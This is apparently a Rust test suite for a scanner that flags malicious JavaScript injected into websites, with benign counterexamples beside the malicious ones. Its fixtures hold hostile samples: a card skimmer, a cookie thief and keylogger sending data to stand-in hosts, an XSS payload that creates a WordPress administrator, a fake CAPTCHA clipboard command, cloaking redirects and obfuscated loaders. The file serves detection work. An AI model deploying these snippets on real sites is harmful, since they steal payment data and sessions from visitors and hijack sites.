use super::*;

fn codes(s: &str) -> String {
    s.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(",")
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("\\x{b:02x}")).collect()
}

fn found(js: &str) -> Option<Danger> {
    injected(js.as_bytes()).map(|i| i.danger)
}

/// An ordinary library's code, long enough that what follows it is "added".
fn library() -> String {
    "/*! tiny-slider v1.0 | MIT */\n(function(){'use strict';\n".to_owned()
        + &"function next(s){ s.index = (s.index + 1) % s.items.length; s.render(); }\n".repeat(12)
        + "})();\n"
}

#[test]
fn a_script_loaded_from_an_address_in_character_codes_is_found() {
    let js = format!(
        "{}var u=String.fromCharCode({});var s=document.createElement('script');s.src=u;document.head.appendChild(s);",
        library(),
        codes("https://cdn.stats-collector.example/t.js")
    );
    assert_eq!(found(&js), Some(Danger::High));
}

#[test]
fn every_way_of_hiding_the_address_is_read() {
    let url = "https://pushnotify.example/redirect?id=7";
    let b64 = base64::engine::general_purpose::STANDARD.encode(url);
    let pct: String = url.bytes().map(|b| format!("%{b:02X}")).collect();
    let rev: String = url.chars().rev().collect();
    for js in [
        format!("window.location.href = '{}';", hex(url)),
        format!("var s = document.createElement('script'); s.src = atob('{b64}');"),
        format!("document.write(unescape('{}'));", pct.clone() + "%3C%2Fscript%3E"),
        format!("location.replace('{rev}'.split('').reverse().join(''));"),
        format!("top.location = String.fromCharCode.apply(null, [{}]);", codes(url)),
    ] {
        assert_eq!(found(&js), Some(Danger::High), "{js}");
    }
}

#[test]
fn hidden_text_that_is_no_address_or_unused_is_not_a_finding() {
    // A greeting kept in character codes, a translation table, an address in codes with no use.
    assert_eq!(found(&format!("alert(String.fromCharCode({}));", codes("Hello, World!"))), None);
    assert_eq!(found("var sep = '\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d'; console.log(sep);"), None);
    // (Far apart by lines: code far to the right of spaces is code off screen.)
    let far = format!("var u = String.fromCharCode({});{}", codes("https://a.example/"), "\n".repeat(700));
    assert_eq!(found(&(far + "var s = document.createElement('div');")), None);
    // A UTF-8 decoder computes its codes.
    assert_eq!(found("out += String.fromCharCode(((c & 31) << 6) | (c2 & 63)); el.innerHTML = out;"), None);
}

#[test]
fn a_mail_address_obfuscator_is_not_a_finding() {
    // A template engine's mailto helper prints `eval(unescape('%64%6f…'))` with the link's
    // text encoded: a literal, decoded and judged by what it holds (a mailto link).
    let php = r#"return '<script type="text/javascript">eval(unescape(\'' . $js_encode . '\'))</script>';"#;
    assert_eq!(in_page(php.as_bytes()), None);
    let link: String = "document.write('<a href=\"mailto:info@bakery.example\">Mail us</a>');"
        .bytes()
        .map(|b| format!("%{b:02x}"))
        .collect();
    assert_eq!(found(&format!("eval(unescape('{link}'));")), None);
    // Computed text run at once is.
    assert_eq!(found("var k = load(); eval(unescape(k));"), Some(Danger::High));
    assert_eq!(found("this['eval'](this['atob'](p.split('').reverse().join('')));"), Some(Danger::High));
}

#[test]
fn the_classic_analytics_snippet_is_not_a_finding() {
    // Only the angle brackets are encoded: nothing is hidden.
    let ga = r#"var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));"#;
    assert_eq!(found(ga), None);
}

#[test]
fn a_script_fetched_and_run_only_for_visitors_from_elsewhere_is_found() {
    let js = format!(
        "{}(function(){{var r=new XMLHttpRequest();if(!document.cookie&&document.referrer.indexOf(location.hostname)<0){{\
         r.onreadystatechange=function(){{if(r.readyState==4&&r.status==200)eval(r.responseText);}};\
         r.open('GET','/wp-content/plugins/x/cache.php?v='+Math.random(),true);r.send();}}}})();",
        library()
    );
    assert_eq!(found(&js), Some(Danger::High));
}

#[test]
fn names_in_brackets_are_read_as_written_out() {
    let js = "(function(){var d=document,w=window,c=d['cookie'],r=d['referrer'];if(r&&!c){var x=new XMLHttpRequest();\
              x['onreadystatechange']=function(){if(x['readyState']==4)w['eval'](x['responseText']);};\
              x['open']('GET','//stats.example/s.php',true);x['send'](null);}})();";
    assert_eq!(found(js), Some(Danger::High));
}

#[test]
fn a_loader_running_its_own_modules_for_everyone_is_not_a_finding() {
    let js = "function load(u, cb){ var x = new XMLHttpRequest(); x.open('GET', u, false); x.send(); \
              eval(x.responseText); cb(); }";
    assert_eq!(found(js), None);
    // Its own consent cookie read nearby does not make it one.
    assert_eq!(
        found(&format!("{js} if (document.cookie.indexOf('consent=1') >= 0) {{ load('/stats.js', f); }}")),
        None
    );
}

/// An obfuscator's output: a string table, the rotation loop, lookups (written for this test).
fn obfuscated() -> String {
    "function a(){var t=['log','2431xQ','push','shift','91aB'];a=function(){return t;};return a();}\
     (function(f,n){var g=f();while(!![]){try{var v=parseInt('2431')/0x1+parseInt('91')/0x2;\
     if(v===n)break;else g['push'](g['shift']());}catch(e){g['push'](g['shift']());}}}(a,0x3a1));"
        .to_owned()
}

#[test]
fn an_obfuscators_block_after_a_scripts_own_code_is_found_high() {
    assert_eq!(found(&(library() + ";" + &obfuscated())), Some(Danger::High));
}

#[test]
fn a_wholly_obfuscated_script_is_found_lower() {
    assert_eq!(found(&obfuscated()), Some(Danger::Medium));
}

#[test]
fn a_script_tag_from_a_throw_away_domain_is_found() {
    assert_eq!(found("document.write('<script src=\"https://cdn-stat.tk/j.js\"></script>');"), Some(Danger::High));
    assert_eq!(found("s.src = 'https://counter.cheap-analytics.xyz/c.js';"), Some(Danger::High));
    assert_eq!(found("s.src = 'https://www.google-analytics.com/analytics.js';"), None);
}

#[test]
fn a_pages_script_blocks_are_read_and_the_block_is_named() {
    let block = format!(
        "<script>var s=document.createElement('script');s.src=String.fromCharCode({});</script>",
        codes("https://t.example/a.js")
    );
    let page = format!("<html><head><title>Shop</title></head><body><p>Hi</p>{block}</body></html>");
    let at = page.find("<script>").unwrap();
    assert_eq!(in_page(page.as_bytes()), Some(Injection { why: Why::InjectedScript, danger: Danger::High, at }));
    let gtag = "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script>\
                <script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}</script>";
    assert_eq!(in_page(gtag.as_bytes()), None);
}

#[test]
fn decoders_read_what_they_are_given() {
    assert_eq!(char_codes(b"104, 0x69,300"), b"hi");
    assert_eq!(escapes(br"\x68\u0069"), b"hi");
    assert_eq!(percent(b"%68%u0069"), b"hi");
}

#[test]
fn a_checkout_skimmer_is_a_collector() {
    let skimmer = "document.addEventListener('click', function(){ var d = {};\
        d.n = document.getElementById('authorizenet_cc_number').value;\
        d.c = document.getElementById('authorizenet_cc_cid').value;\
        var x = new XMLHttpRequest(); x.open('POST', '//cdn-stats-img.example/gate.php', false);\
        x.send(btoa(JSON.stringify(d))); });";
    assert_eq!(injected(skimmer.as_bytes()).map(|i| i.why), Some(Why::CredentialCollector));
    // Every field of a checkout page's forms, sent to an address kept apart from the sender.
    let all = "var S = { gate: 'https://jquery-cdn-lib.example/j.php' };\
        if (/onepage|checkout/.test(location.href)) { var v = [];\
        document.querySelectorAll('input, select').forEach(function(e){ v.push(e.name + '=' + e.value); });\
        var r = new XMLHttpRequest(); r.open('POST', S.gate); r.send(v.join('&')); }";
    assert_eq!(injected(all.as_bytes()).map(|i| i.why), Some(Why::CredentialCollector));
}

#[test]
fn a_shops_own_checkout_script_is_not_a_collector() {
    // The shop's checkout posts its own fields to its own address (relative).
    let own = "/* see https://shop.example/docs */ jQuery(function($){ if ($('#checkout').length) {\
        $('form.checkout').on('submit', function(){ $.ajax({ url: wc_params.checkout_url, type: 'POST',\
        data: $('form.checkout').serialize() }); return false; }); } });";
    assert_eq!(found(own), None);
    // A card form validating its fields in the browser only.
    let check = "function valid(){ var n = $('#cc_number').val().replace(/\\s/g, ''); return luhn(n); }";
    assert_eq!(found(check), None);
}

#[test]
fn an_invisible_frame_to_another_site_is_found() {
    let gate = "if (document.cookie.indexOf('vis=') < 0) { var f = document.createElement('iframe');\
        f.src = 'http://stats.gate-example.info/in.php?id=7'; f.style.position = 'absolute';\
        f.style.left = '-1999px'; f.width = '10'; f.height = '10'; document.body.appendChild(f); }";
    assert_eq!(found(gate), Some(Danger::High));
    // A visible embed of a video is not.
    let video = "var f = document.createElement('iframe'); f.src = 'https://www.youtube.example/embed/x';\
        f.width = '640'; f.height = '360'; box.appendChild(f);";
    assert_eq!(found(video), None);
}

#[test]
fn hexadecimal_text_decoded_in_a_loop_and_hidden_names_are_read() {
    let code = "var f=document.createElement('iframe');f.src='http://gate.example/?x';document.body.appendChild(f);";
    let hexed: String = code.bytes().map(|b| format!("{b:02x}")).collect();
    let js = format!(
        "(function(){{var o='';var h=\"{hexed}\";for(var i=0;i<h.length;i+=2){{o+=parseInt(h.substring(i,i+2),16)+',';}}\
         eval(eval('String.fromCharCode('+o.slice(0,-1)+')'));}})();"
    );
    assert_eq!(found(&js), Some(Danger::High));
    // A checksum is no hidden text.
    assert_eq!(found("var sum = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'; eval(x);"), None);
    // The page's own names kept in escape codes: `window['document']['write'](…)`.
    assert_eq!(found(r#"window['\x64\x6f\x63\x75\x6d\x65\x6e\x74']['\x77\x72\x69\x74\x65'](s);"#), Some(Danger::High));
}

#[test]
fn the_older_rotation_is_an_obfuscators_too() {
    let js = library()
        + "var _0x4e2a=['log','hello'];(function(a,b){var c=function(d){while(--d){a['push'](a['shift']());}};c(++b);}(_0x4e2a,0x1b3));";
    assert_eq!(found(&js), Some(Danger::High));
}

#[test]
fn hidden_code_is_read_as_code() {
    // A loader kept in base64, whose own address is reversed inside it.
    let inner = "if (/checkout/.test(window.location)) { document.write('>tpircs/<>\"sj.a/elpmaxe.kcart//:sptth\"=crs tpircs<'.split('').reverse().join('')); }";
    let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
    assert_eq!(found(&format!("this['eval'](this['atob']('{b64}'));")), Some(Danger::High));
    // Base64 of ordinary code is not.
    let plain = base64::engine::general_purpose::STANDARD.encode("console.log('menu ready'); init(1, 2, 3);");
    assert_eq!(found(&format!("eval(atob('{plain}'));")), None);
}

#[test]
fn a_page_of_script_tags_never_closed_is_read_once() {
    // Regression: every unclosed tag's block ran to the page's end, so a page of many opened
    // tags was read once per tag. Blocks now follow one another: the first unclosed tag's
    // block is the rest of the page, and the injection in it is found there.
    let tags = "<script>var a = 1;\n".repeat(200);
    let hidden = format!("<script>location.href = String.fromCharCode({});", codes("https://away.example/"));
    let page = format!("<html><body>{tags}{hidden}</body></html>");
    assert_eq!(in_page(page.as_bytes()).map(|i| i.at), page.find("<script>"));
    // Closed blocks are read one after another; the injected one is named.
    let closed = format!("{}{hidden}</script>", "<script>var a = 1;</script>\n".repeat(200));
    assert_eq!(in_page(closed.as_bytes()).map(|i| i.at), closed.rfind("<script>"));
}

/// `code` packed the way Dean Edwards' packer does it (base 36): each word replaced by its
/// number in a list of words.
fn packed(code: &str) -> String {
    let mut words: Vec<String> = Vec::new();
    let mut out = String::new();
    let mut word = String::new();
    let radix36 = |mut n: usize| -> String {
        let digits = b"0123456789abcdefghijklmnopqrstuvwxyz";
        let mut s = Vec::new();
        loop {
            s.push(digits[n % 36]);
            n /= 36;
            if n == 0 {
                break;
            }
        }
        s.reverse();
        String::from_utf8(s).unwrap()
    };
    let mut flush = |word: &mut String, out: &mut String| {
        if !word.is_empty() {
            let n = words.iter().position(|w| w == word).unwrap_or_else(|| {
                words.push(word.clone());
                words.len() - 1
            });
            out.push_str(&radix36(n));
            word.clear();
        }
    };
    for c in code.chars() {
        if c.is_ascii_alphanumeric() || c == '_' {
            word.push(c);
        } else {
            flush(&mut word, &mut out);
            out.push(if c == '\'' { '"' } else { c });
        }
    }
    flush(&mut word, &mut out);
    format!(
        "eval(function(p,a,c,k,e,d){{e=function(c){{return c.toString(36)}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}('{out}',36,{},'{}'.split('|'),0,{{}}))",
        words.len(),
        words.join("|")
    )
}

#[test]
fn a_packed_script_that_only_loads_another_sites_script_is_found() {
    // Regression: a planted `jquery.js` of one packed line that adds a script element from
    // another site; nothing in it is an address until it is unpacked.
    let loader = "var s=document.createElement('script');s.async=true;s.src='https://cdn.jq-stats.example/j.js?v=3';var r=document.getElementsByTagName('script')[0];r.parentNode.insertBefore(s,r);";
    assert_eq!(found(&packed(loader)), Some(Danger::High));
    let tag = "document.write('<script src=\"//ads.example.net/a.js\"></script>');";
    assert_eq!(found(&packed(tag)), Some(Danger::High));
}

#[test]
fn a_packed_loader_behind_a_long_payload_is_found() {
    // Regression (speed): the packer's groups were read by the regex engine's slowest mode,
    // 70 KB of a packed editor cost 52 M instructions; they are read by hand now. The loader
    // comes after 90 KB of the library's own code (60 KB packed), with escapes in the payload.
    let library = "var o={a:1};o.b=function(x){return x+\\'px\\'};".repeat(2_000);
    let loader = "var s=document.createElement('script');s.src='https://cdn.jq-stats.example/j.js';document.head.appendChild(s);";
    let js = packed(&format!("{library}{loader}"));
    assert!(js.len() > 50_000, "{}", js.len());
    assert_eq!(found(&js), Some(Danger::High));
    assert_eq!(found(&packed(&library)), None);
    // Regression (review): the packer's body calls another function before its own call.
    let loader = "var s=document.createElement('script');s.src='https://cdn.jq-stats.example/j.js';document.head.appendChild(s);";
    let first = packed(loader).replacen("{e=function(c)", "{var z=function(s){return s}('x');e=function(c)", 1);
    assert_eq!(found(&first), Some(Danger::High), "{first}");
}

#[test]
fn a_packed_library_is_not_a_finding() {
    // Libraries were shipped packed too: what they unpack to makes elements and reads the page,
    // but loads no other site's script.
    let easing = "jQuery.easing.swing=function(x,t,b,c,d){return c*(t/=d)*t+b};var d=document.createElement('div');d.className='fx';document.body.appendChild(d);window.location.hash='top';";
    assert_eq!(found(&packed(easing)), None);
    // A CMS that ships a big provider's snippet packed (Baidu's link submission).
    let push = "var bp=document.createElement('script');bp.src='https://zz.bdstatic.com/linksubmit/push.js';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(bp,s);";
    assert_eq!(found(&packed(push)), None);
}

#[test]
fn text_fetched_from_another_site_and_put_off_screen_is_found() {
    // fresh53's `min.js`: links served from the intruder's host, put where no visitor sees them.
    let spam = r#"document.addEventListener("DOMContentLoaded", function() {
    fetch("https://shop-links.example/a/b/roll.txt").then(r => r.text()).then(text => {
        var div = document.createElement("div"); div.innerHTML = text;
        div.style.position = "absolute"; div.style.left = "-9999rem";
        document.body.insertBefore(div, document.body.lastChild);
    });
});"#;
    assert_eq!(found(spam), Some(Danger::High));
    let xhr = "var x = new XMLHttpRequest(); x.open('GET', 'https://links.example.org/l.txt'); x.onload = function () { var d = document.createElement('div'); d.setAttribute('style', 'position:absolute;top:-10000px'); d.innerHTML = x.responseText; document.body.appendChild(d); }; x.send();";
    assert_eq!(found(xhr), Some(Danger::High));
    // Regression (review): an address in backquotes, or a harmless fetch placed first.
    assert_eq!(
        found(
            &spam.replace("\"https://shop-links.example/a/b/roll.txt\"", "`https://shop-links.example/a/b/roll.txt`")
        ),
        Some(Danger::High)
    );
    let decoy = format!(
        "fetch('https://api.weather.example/now.json').then(r => r.json()).then(w => {{ t.textContent = w.temp; }});\n{spam}"
    );
    assert_eq!(found(&decoy), Some(Danger::High));
    // A site's own fragment shown on screen, and an off-screen element that holds no fetched text.
    for own in [
        // A theme that shows a widget's answer and measures the scrollbar off the screen.
        r#"$.get("https://api.weather-widget.example/now", function (r) { var w = document.getElementById("weather"); w.innerHTML = r.summary; }); var d = document.createElement("div"); d.style.cssText = "position:absolute;top:-9999px;width:100px;overflow:scroll"; document.body.appendChild(d);"#,
        r#"fetch("https://api.example.com/news.html").then(r => r.text()).then(t => { document.getElementById("news").innerHTML = t; });"#,
        r#"fetch("/fragments/menu.html").then(r => r.text()).then(t => { var d = document.createElement("div"); d.innerHTML = t; d.style.left = "-9999px"; });"#,
        "var a = document.createElement('div'); a.style.left = '-9999px'; a.innerHTML = '&nbsp;'; document.body.appendChild(a);",
    ] {
        assert_eq!(found(own), None, "{own}");
    }
}

#[test]
fn an_injectors_hexadecimal_marker_around_obfuscated_code_is_found() {
    // fresh97's `wp-emoji-release.js`: the site's script, then the injector's block ending in
    // a comment of 32 hexadecimal digits.
    let site = "window._wpemojiSettings={\"baseUrl\":\"https://s.w.org/images/core/emoji/72x72/\"};";
    let block = "/*857fa143e5988d9492f71363cb97f97f*/var z=[\"\\x63\\x72\\x65\\x61\\x74\\x65\"];document[z[0]+\"Element\"](\"script\");/*857fa143e5988d9492f71363cb97f97f*/";
    assert_eq!(found(&format!("{site}\n{block}")), Some(Danger::High));
    // A comment of that shape beside plain code, or a licence's hash in words, is nothing.
    assert_eq!(found(&format!("{site}\n/*857fa143e5988d9492f71363cb97f97f*/var a=1;")), None);
    assert_eq!(found(&format!("{site}\n/* sha: 857fa143e5988d9492f71363cb97f97f */")), None);
}

#[test]
fn a_whole_script_loading_another_sites_script_is_reported_for_a_look() {
    // fresh97's line appended to a theme's `superfish.js`, fresh76's and fresh97's loaders.
    let appended = ";(function(e,l,v,j,f){j=e.createElement(l);f=e.getElementsByTagName(l)[0];j.async=1;j.src=v;\
                    f.parentNode.insertBefore(j,f);})(document,'script','https://trademark.example-church.org/oBiWuds69d=');";
    let plain = "(function() {\nvar elem = document.createElement('script');\nelem.type = 'text/javascript';\n\
                 elem.src = 'https://bes.belaterbewasthere.example/corn/flex.js?tp=799';\n\
                 document.getElementsByTagName(\"head\")[0].appendChild(elem);\n})();";
    for js in [appended, plain] {
        assert_eq!(
            remote_loader(js.as_bytes()).map(|i| (i.why, i.danger)),
            Some((Why::LoadsForeignScript, Danger::Medium)),
            "{js}"
        );
    }
    // A service's loader (YouTube's player API, a chat widget) and a script of the site's own
    // folder are the site's.
    let youtube = "var tag = document.createElement('script'); tag.src = 'https://www.youtube.com/iframe_api';";
    let own = "var s = document.createElement('script'); s.src = '/wp-content/themes/x/js/extra.js';";
    let chat = plain.replace("bes.belaterbewasthere.example/corn/flex.js?tp=799", "embed.tawk.to/5f1/default");
    for js in [youtube, own, &chat] {
        assert!(remote_loader(js.as_bytes()).is_none(), "{js}");
    }
}

#[test]
fn cookies_sent_away_and_keys_logged_are_found() {
    // Regression: fresh96's XSS payload sends the cookies as a picture's address and logs the
    // keys typed, ten at a time.
    let thief = "(function() { const S = 'http://203.0.113.5:5000';\n\
                 new Image().src = S + '/steal?c=' + encodeURIComponent(document.cookie); })();";
    assert!(injected(thief.as_bytes()).is_some_and(|i| i.why == Why::StealsCookies));
    let keys = "let buf = ''; document.addEventListener('keypress', function(e) { buf += e.key;\n\
                if (buf.length >= 10) { new Image().src = S + '/k?k=' + btoa(buf); buf = ''; } });";
    assert!(injected(keys.as_bytes()).is_some_and(|i| i.why == Why::CredentialCollector));
    // A site's own cookie banner sets a cookie after a request; a search box reads keys and
    // fetches suggestions; neither sends the cookies or the keys to a picture's address.
    let banner = "fetch('/consent', {method: 'POST'}).then(() => document.cookie = 'ok=1; path=/');\n\
                  var c = document.cookie.indexOf('ok=1') >= 0;";
    assert!(injected(banner.as_bytes()).is_none());
    // Regression: WordPress's `post.js` posts the cookies to its own `ajaxurl`.
    let own = "$.post(ajaxurl, { action: 'set-post-thumbnail', cookie: encodeURIComponent( document.cookie ) });";
    assert!(injected(own.as_bytes()).is_none());
    let away = "$.post('https://collect.example/c', { cookie: encodeURIComponent( document.cookie ) });";
    assert!(injected(away.as_bytes()).is_some_and(|i| i.why == Why::StealsCookies));
    // fresh109's `woof.js`: the cookies kept in a variable, then posted to a collector.
    let kept = "const c = document.cookie;\n\
                await fetch('https://x.m.pipedream.net', { method: 'POST', body: JSON.stringify({ cookie: c }) });";
    assert!(injected(kept.as_bytes()).is_some_and(|i| i.why == Why::StealsCookies));
    // Kept, then a request to an address that does not send them: quiet.
    let other = "var c = document.cookie;\nfetch('https://cdn.example/app.json').then(r => r.json());";
    assert!(injected(other.as_bytes()).is_none());
    let search = "input.addEventListener('keyup', function(e) { q += e.key; fetch('/suggest?q=' + q); });";
    assert!(injected(search.as_bytes()).is_none());
}

#[test]
fn code_pushed_off_screen_by_spaces_is_found() {
    // Regression: fresh128's responsiveCarousel carries a card skimmer 971 spaces to the right
    // of the library's own line.
    let skimmer = format!(
        "{}\n{}var xhttp = new XMLHttpRequest(); xhttp.open('POST', 'https://api.stripe.com/v1/customers', true);\n",
        library(),
        " ".repeat(971)
    );
    assert_eq!(found(&skimmer), Some(Danger::High));
    // A comment laid out in a wide box, and ordinary indentation, are not code off screen.
    let banner = format!("{}\n{}* AAC demuxer\n{}*/\n", library(), " ".repeat(600), " ".repeat(600));
    assert_eq!(found(&banner), None);
    let indented = format!("{}\n{}return x;\n", library(), " ".repeat(48));
    assert_eq!(found(&indented), None);
}

#[test]
fn an_ad_loader_shown_only_to_search_visitors_is_injected() {
    // fresh141's WP-VCD `wp-tmp.php`, in short.
    let src = "ini_set('display_errors', 0);\nfunction slider_option($content){ $con2 = '\n<script>\n(function(__htas){\nvar d = document,\n\
               s = d.createElement(\\'script\\'),\nl = d.scripts[d.scripts.length - 1];\n\
               s.src = \"\\/\\/shigaxapo.com\\/c\\/D.9D6\\/bA2D5hlJ\";\nl.parentNode.insertBefore(s, l);\n})({})\n</script>\n'; return $content.$con2; }\n\
               $ref = $_SERVER['HTTP_REFERER']; $SE = array('google.','/search?','yahoo.','yandex','bing.');\n\
               if (!isset($_COOKIE['wordpress_cf_adm_use_adm']) && !is_user_logged_in()) { add_filter('the_content','slider_option'); }";
    assert!(loader_hidden_from_owner(src.as_bytes()).is_some());
    // Analytics skipped for the site's users: loaded for every other visitor.
    let analytics = src
        .replace("$ref = $_SERVER['HTTP_REFERER']; $SE = array('google.','/search?','yahoo.','yandex','bing.');\n", "");
    assert!(loader_hidden_from_owner(analytics.as_bytes()).is_none());
}

#[test]
fn a_browser_miner_started_with_its_site_key_is_injected() {
    let page = "var _client = new Client.Anonymous('87a0248fd68a31de28fcc1634959cb42180fedc2ba9dde9b1f2601ed0392856e', { throttle: 0 });\n_client.start();";
    assert!(injected(page.as_bytes()).is_some());
    assert!(injected(b"var c = new Client.User(name); c.save();").is_none());
}

#[test]
fn a_script_sending_people_past_its_white_page_is_a_cloaker() {
    // fresh151's `index.js`.
    let js = "const white_page = \"https://www.rumah.com/\";\nconst black_page = \"https://lk21official.info/\";\n\
              const isBot = () => new RegExp([/bot/, /spider/, /Googlebot/].map((r) => r.source).join(\"|\"), \"i\").test(navigator.userAgent);\n\
              if (isBot()) { iframe.src = white_page; } else { window.location.href = black_page; }\n";
    assert_eq!(injected(js.as_bytes()).map(|i| i.why), Some(Why::SearchEngineCloaking));
    // A language redirect that spares crawlers, and a theme's "white page" style switch.
    let lang = "if (!/bot|crawl|spider/i.test(navigator.userAgent)) { window.location.href = '/en/'; }";
    assert!(injected(lang.as_bytes()).is_none());
    let theme = "var white_page = document.body.classList.contains('white-page'); if (/Googlebot/.test(navigator.userAgent)) { location.reload(); }";
    assert!(injected(theme.as_bytes()).is_none());
}

#[test]
fn a_script_address_spelled_in_character_codes_is_injected() {
    // fresh156's `3.js`: a jsDelivr copy of an attacker's repository, spelled in pieces.
    let js = "(function() { var s = document.createElement('script');\n var parts = [String.fromCharCode(104, 116), String.fromCharCode(116, 112, 115, 58, 47, 47),\n\
              String.fromCharCode(99, 100, 110), String.fromCharCode(46, 106, 115)];\n s.src = parts.join(''); document.head.appendChild(s); })();";
    assert_eq!(injected(js.as_bytes()).map(|i| i.why), Some(Why::InjectedScript));
    // An editor's one link spelled so.
    let editor = "var a = String.fromCharCode(60, 97, 32); var s = document.createElement('script');";
    assert!(injected(editor.as_bytes()).is_none());
}

#[test]
fn a_script_sending_all_but_crawlers_to_another_site_is_a_cloaker() {
    // fresh156's `redirect.js`.
    let js = "(function () { function isBot() { return [/bot/i, /crawler/i, /google/i].some(b => b.test(navigator.userAgent)); }\n\
              if (!isBot()) { setTimeout(function () { window.location.href = \"https://login-secure.example.top/\"; }, 800); } })();";
    assert_eq!(injected(js.as_bytes()).map(|i| i.why), Some(Why::SearchEngineCloaking));
    // A language redirect on the site's own paths.
    let own =
        "if (!/bot/i.test(navigator.userAgent) && navigator.language === 'de') { window.location.href = '/de/'; }";
    assert!(injected(own.as_bytes()).is_none());
}

#[test]
fn text_run_as_code_for_visitors_from_search_engines_is_injected() {
    // fresh156's jsDelivr ad injectors.
    let js = "function isRobot() { return /spider|bot/i.test(navigator.userAgent); }\n\
              function isReferrerSearch() { return /google|bing|baidu/.test(document.referrer); }\n\
              if (!isRobot() && isReferrerSearch()) { var b = decode(`iF562pH7Zcc}nv5a`.substr(10)); new Function(b)(); }";
    assert_eq!(injected(js.as_bytes()).map(|i| i.why), Some(Why::InjectedScript));
    // A template engine compiles with `new Function`, caring for no crawler.
    let tpl = "var render = new Function('data', source); document.referrer;";
    assert!(injected(tpl.as_bytes()).is_none());
}

#[test]
fn a_script_hidden_from_signed_in_site_owners_that_sends_visitors_away_is_found() {
    // Regression: fresh162's `prot2.js` opens another site on outbound clicks, never for a
    // signed-in WordPress user.
    let js = "if (document.referrer !== '' && document.cookie.indexOf('wordpress_logged_in_') === -1) {\n\
              document.addEventListener('click', function (e) { window.open('https://www.google.com/url?url=https://movies.example/', '_blank'); }); }";
    assert_eq!(injected(js.as_bytes()).map(|i| i.why), Some(Why::InjectedScript));
    // A theme's script that only hides its admin bar helper for visitors.
    let own = "if (document.cookie.indexOf('wordpress_logged_in_') === -1) { document.body.classList.add('guest'); }";
    assert_eq!(found(own), None);
}

#[test]
fn a_redirect_to_a_gambling_site_is_found() {
    // Regression: fresh156's `redirect.js`: mobile visitors sent to slot sites.
    let js = "function go() { if (/Android|iPhone/i.test(navigator.userAgent)) { window.location.href = \"https://ombaktoto30.store/\"; } }\nwindow.onload = go;";
    assert_eq!(injected(js.as_bytes()).map(|i| i.why), Some(Why::ConditionalRedirect));
    // A shop's own mobile page, and a plain link to a slot-car club.
    let shop = "if (/Android/i.test(navigator.userAgent)) { window.location.href = \"https://m.example-shop.com/\"; }";
    assert_eq!(found(shop), None);
    let club = "var link = 'https://slotcars.example.org/'; document.getElementById('a').href = link;";
    assert_eq!(found(club), None);
}

#[test]
fn a_script_making_an_administrator_or_a_command_to_paste_is_found() {
    // Regression: fresh179's XSS payload adds an administrator through WordPress's own form.
    let admin = "var r = new XMLHttpRequest(); r.open('GET', '/wp-admin/user-new.php', false); r.send();\n\
                 var nonce = r.responseText.match(/_wpnonce_create-user\" value=\"([^\"]+)\"/)[1];\n\
                 r.open('POST', '/wp-admin/user-new.php', false); r.send('action=createuser&_wpnonce_create-user=' + nonce + '&role=administrator');";
    assert_eq!(injected(admin.as_bytes()).map(|i| i.why), Some(Why::InjectedScript));
    // Regression: fresh179's fake CAPTCHA puts `mshta …` on the clipboard.
    let paste = "function copy(t) { var a = document.createElement('textarea'); a.value = t; document.body.appendChild(a); a.select(); document.execCommand(\"copy\"); }\n\
                 const commandToRun = \"mshta \" + window.location.origin + \"/recaptcha-verify\"; copy(commandToRun);";
    assert_eq!(injected(paste.as_bytes()).map(|i| i.why), Some(Why::InjectedScript));
    // A documentation page's copy button for an install command.
    let docs = "button.onclick = function () { navigator.clipboard.writeText(\"composer require vendor/pkg\"); };";
    assert_eq!(found(docs), None);
}
